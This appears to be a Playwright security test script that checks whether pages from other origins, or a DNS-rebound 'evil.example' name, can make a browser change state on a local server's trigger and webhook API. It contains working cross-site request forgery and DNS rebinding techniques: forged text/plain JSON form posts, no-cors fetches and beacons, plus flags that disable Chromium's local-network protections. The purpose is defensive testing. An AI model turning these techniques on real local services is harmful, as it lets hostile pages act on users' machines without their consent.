// What web pages can make a browser send to a server on this machine.
//
//   node attack.mjs PORT UUID    the server's port on 127.0.0.1, and a trigger that it has
//
// Pages of another site, of another port, and of a name that is made to point to the server (DNS rebinding) try to
// change something; then a page of the server's own origin does. Prints what the browser sent and how it was
// answered, a JSON object a line: {"page": "rebound", "request": "POST /triggers", "status": 421}
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";

const [port, uuid] = process.argv.slice(2);
const profile = mkdtempSync(join(tmpdir(), "control-tower-browser-"));
const attacker = createServer((_, response) => {
  response.writeHead(200, { "content-type": "text/html" });
  response.end("<!doctype html><title>page</title>");
});
await new Promise((listening) => attacker.listen(0, "127.0.0.1", listening));
const other = attacker.address().port;

const browser = await chromium.launchPersistentContext(profile, {
  executablePath: execFileSync("/bin/sh", ["-c", "command -v chromium"], { encoding: "utf8" }).trim(),
  headless: true,
  args: [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
    // What newer Chromium asks a person before a page may reach this machine. Others don't, or the answer is yes.
    "--disable-features=LocalNetworkAccessChecks,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
  ],
});

// In the page. Everything that a page can send without asking first, and what it can send to its own origin.
const attack = async ({ target, uuid, own }) => {
  const trigger = (protocol) => JSON.stringify({ apiVersion: "T/v1", protocol, spec: {} });
  const filter = JSON.stringify({ status: "undeliverable" });
  const ignore = () => undefined;
  const send = (method, path, body, type) =>
    fetch(target + path, {
      method,
      body,
      mode: own ? "same-origin" : "no-cors",
      headers: type ? { "content-type": type } : {},
    }).catch(ignore);
  const form = (path, name, value) =>
    new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.name = `frame${Math.random()}`;
      const form = document.createElement("form");
      Object.assign(form, { method: "post", enctype: "text/plain", action: target + path, target: frame.name });
      const input = document.createElement("input");
      Object.assign(input, { name, value });
      form.append(input);
      document.body.append(frame, form);
      form.submit();
      frame.addEventListener("load", done);
      setTimeout(done, 5000);
    });
  const image = (path) =>
    new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = target + path;
    });
  await form("/hooks/in", '{"apiVersion":"T/v1","protocol":"Form","spec":{"x":"', '"}}');
  await form(`/triggers/${uuid}/redeliver`, "x", "y");
  await send("POST", "/hooks/in", trigger("Fetch"));
  await send("POST", "/triggers/redeliver?status=undeliverable");
  await send("POST", `/triggers/${uuid}/redeliver`);
  navigator.sendBeacon(`${target}/hooks/in`, trigger("Beacon"));
  await image(`/triggers/redeliver?status=undeliverable`);
  await image(`/triggers/${uuid}/redeliver`);
  // Those that a page of another origin may only ask for; the browser asks the server first.
  for (const [method, path, body] of [
    ["POST", "/triggers", trigger("Json")],
    ["POST", "/triggers/redeliver", filter],
    ["POST", "/triggers/discard", filter],
    ["DELETE", `/triggers/${uuid}`, undefined],
  ]) {
    await fetch(target + path, {
      method,
      body,
      headers: body ? { "content-type": "application/json" } : {},
    }).catch(ignore);
  }
  return fetch(`${target}/triggers`).then((answer) => answer.text()).catch(ignore);
};

const server = `http://127.0.0.1:${port}`;
const rebound = `http://evil.example:${port}`;
const visit = async (name, url, run) => {
  const page = await browser.newPage();
  page.on("response", (response) => {
    const at = new URL(response.url());
    if (at.port !== port || at.pathname === "/page") return;
    const request = `${response.request().method()} ${at.pathname}`;
    console.log(JSON.stringify({ page: name, request, status: response.status() }));
  });
  await page.goto(url);
  const read = await run(page);
  if (read?.includes(uuid)) console.log(JSON.stringify({ page: name, request: "read", status: 200 }));
  await page.close();
};

try {
  const remote = { target: server, uuid, own: false };
  await visit("cross-site", `http://evil.example:${other}/page`, (page) => page.evaluate(attack, remote));
  await visit("same-site", `http://127.0.0.1:${other}/page`, (page) => page.evaluate(attack, remote));
  // The page came from evil.example before that name pointed here.
  await browser.route(`${rebound}/page`, (route) =>
    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>page</title>" }),
  );
  const own = { target: rebound, uuid, own: true };
  await visit("rebound", `${rebound}/page`, (page) => page.evaluate(attack, own));
  await visit("own", `http://localhost:${port}/`, (page) =>
    page.evaluate(async () => {
      const body = JSON.stringify({ apiVersion: "T/v1", protocol: "Own", spec: {} });
      await fetch("/triggers", { method: "POST", body, headers: { "content-type": "application/json" } });
      return (await fetch("/triggers")).text();
    }),
  );
} finally {
  await browser.close();
  attacker.close();
  rmSync(profile, { recursive: true, force: true });
}
